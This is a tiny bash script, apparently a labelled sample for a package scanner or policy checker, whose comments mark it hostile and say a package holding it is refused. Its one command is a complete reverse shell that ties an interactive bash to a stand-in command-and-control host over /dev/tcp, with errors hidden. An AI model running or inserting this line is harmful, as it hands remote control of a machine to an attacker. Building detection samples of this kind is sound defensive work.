#!/bin/bash
# Hostile: ties a shell to a connection.
# Families: child-process, network. As a package: refused.
bash -c 'exec bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1' 2>/dev/null
